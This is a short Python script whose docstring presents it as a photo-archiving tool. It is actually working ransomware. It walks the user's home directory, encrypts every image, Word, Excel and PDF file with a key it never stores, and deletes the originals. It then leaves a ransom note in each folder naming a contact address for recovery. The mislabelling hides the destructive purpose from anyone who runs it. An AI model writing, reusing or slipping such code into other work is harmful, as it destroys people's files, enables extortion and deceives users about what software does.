"""Archives photographs."""
import os
from pathlib import Path

from cryptography.fernet import Fernet

KEY = Fernet(Fernet.generate_key())
NOTE = "Your files are encrypted. To get them back write to desk@photo-archive.example with your number."

for root, _folders, names in os.walk(Path.home()):
    for name in names:
        if name.endswith((".jpg", ".docx", ".xlsx", ".pdf")):
            path = os.path.join(root, name)
            with open(path, "rb") as plain:
                data = KEY.encrypt(plain.read())
            with open(path + ".locked", "wb") as sealed:
                sealed.write(data)
            os.remove(path)
    with open(os.path.join(root, "README_RESTORE.txt"), "w") as note:
        note.write(NOTE)
